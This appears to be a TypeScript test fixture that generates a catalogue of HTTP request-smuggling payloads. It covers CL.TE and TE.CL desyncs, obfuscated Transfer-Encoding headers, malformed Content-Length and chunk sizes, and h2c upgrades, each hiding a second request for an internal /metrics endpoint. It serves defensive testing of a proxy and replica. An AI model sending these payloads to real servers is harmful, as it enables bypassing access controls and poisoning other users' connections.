/**
 * Known attempts at making two programs in a row read one request differently.
 *
 * @module
 */
import type { HostileRequest } from "./requests.ts";

const CRLF = "\r\n";

/**
 * Requests with a second one hidden in them, for the front to see one and the replica two. The hidden
 * one asks for what only the replica's own port gives.
 */
export function smuggling(): HostileRequest[] {
  const hidden = ["GET /metrics HTTP/1.1", "Host: localhost", "X-Smuggled: 1", "", ""].join(CRLF);
  const size = hidden.length.toString(16);
  const post = (head: string[], body: string, end = CRLF) =>
    [
      "POST /api/orders HTTP/1.1",
      "Host: localhost",
      "Content-Type: application/json",
      ...head,
      "",
      "",
    ]
      .join(end) + body;
  const length = hidden.length + 5;
  const te = (value: string) => [`Content-Length: ${length}`, `Transfer-Encoding: ${value}`];
  const both = `0\r\n\r\n${hidden}`;
  const requests: Record<string, string> = {
    "CL.TE": post(te("chunked"), both),
    "TE.CL": post(
      ["Transfer-Encoding: chunked", "Content-Length: 4"],
      `${size}\r\n${hidden}\r\n0\r\n\r\n`,
    ),
    "TE with a tab": post(te("\tchunked"), both),
    "TE with a space before the colon": post(
      [`Content-Length: ${length}`, "Transfer-Encoding : chunked"],
      both,
    ),
    "TE xchunked": post(te("xchunked"), both),
    "TE chunked, identity": post(te("chunked, identity"), both),
    "TE identity, chunked": post(te("identity, chunked"), both),
    "TE twice": post([...te("chunked"), "Transfer-Encoding: x"], both),
    "TE in capitals": post(te("CHUNKED"), both),
    "TE folded": post([`Content-Length: ${length}`, "Transfer-Encoding:\r\n chunked"], both),
    "TE with a vertical tab": post(te("\x0bchunked"), both),
    "TE under another name": post(
      [`Content-Length: ${length}`, "Transfer_Encoding: chunked"],
      both,
    ),
    "TE with NUL": post(te("chunked\0"), both),
    "TE in HTTP/1.0": post(te("chunked"), both).replace("HTTP/1.1", "HTTP/1.0"),
    "CL twice": post(["Content-Length: 5", `Content-Length: ${length}`], both),
    "CL list": post([`Content-Length: 5, ${length}`], both),
    "CL with a plus": post([`Content-Length: +5`], `12345${hidden}`),
    "CL with a sign": post([`Content-Length: -5`], hidden),
    "CL with zeros": post([`Content-Length: 0005`], `12345${hidden}`),
    "CL in hex": post([`Content-Length: 0x5`], `12345${hidden}`),
    "CL with a space": post([`Content-Length: 5 5`], `12345${hidden}`),
    "CL 0 with a body": post(["Content-Length: 0"], hidden),
    "CL on GET": post([`Content-Length: ${hidden.length}`], hidden).replace("POST", "GET"),
    "CL huge": post([`Content-Length: 18446744073709551621`], `12345${hidden}`),
    "bare LF": post(["Content-Length: 0"], hidden, "\n"),
    "bare LF before the hidden head": post([`X: y\n${te("chunked").join("\n")}`], both),
    "bare CR": post(
      [`X: y\rTransfer-Encoding: chunked`, "Content-Length: 5"],
      `0\r\n\r\n${hidden}`,
    ),
    "obs-fold": post(["X: y\r\n Transfer-Encoding: chunked", "Content-Length: 0"], hidden),
    "chunk extension": post(
      ["Transfer-Encoding: chunked"],
      `5;a="\r\n"\r\n12345\r\n0\r\n\r\n${hidden}`,
    ),
    "chunk extension with LF": post(
      ["Transfer-Encoding: chunked"],
      `2;\nxx\r\n${size}\r\n0\r\n\r\n${hidden}`,
    ),
    "chunk size that overflows": post(
      ["Transfer-Encoding: chunked"],
      `ffffffffffffffff5\r\n12345\r\n0\r\n\r\n${hidden}`,
    ),
    "chunk size with a minus": post(
      ["Transfer-Encoding: chunked"],
      `-5\r\n12345\r\n0\r\n\r\n${hidden}`,
    ),
    "chunk without its end": post(["Transfer-Encoding: chunked"], `5\r\n12345XX0\r\n\r\n${hidden}`),
    "trailer with a length": post(
      ["Transfer-Encoding: chunked"],
      `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    ),
    "Expect and a body at once": post(["Expect: 100-continue", "Content-Length: 0"], hidden),
    "Upgrade to h2c": post(
      ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"],
      hidden,
    ),
    "Connection names Content-Length": post(
      ["Connection: content-length", `Content-Length: ${hidden.length}`],
      hidden,
    ),
    "head in the target": `GET /api/users HTTP/1.1\r\nX: y\r\n\r\n${hidden}`,
    "CRLF in the target":
      `GET /api/users%20HTTP/1.1%0d%0aHost:%20a%0d%0a%0d%0a HTTP/1.1\r\nHost: a\r\n\r\n${hidden}`,
    "pipelined": post(["Content-Length: 2"], `{}${hidden}`),
    "line before the request": `\r\n\r\n${post(["Content-Length: 2"], `{}${hidden}`)}`,
  };
  return Object.entries(requests).map(([kind, bytes]) => ({ kind, bytes }));
}
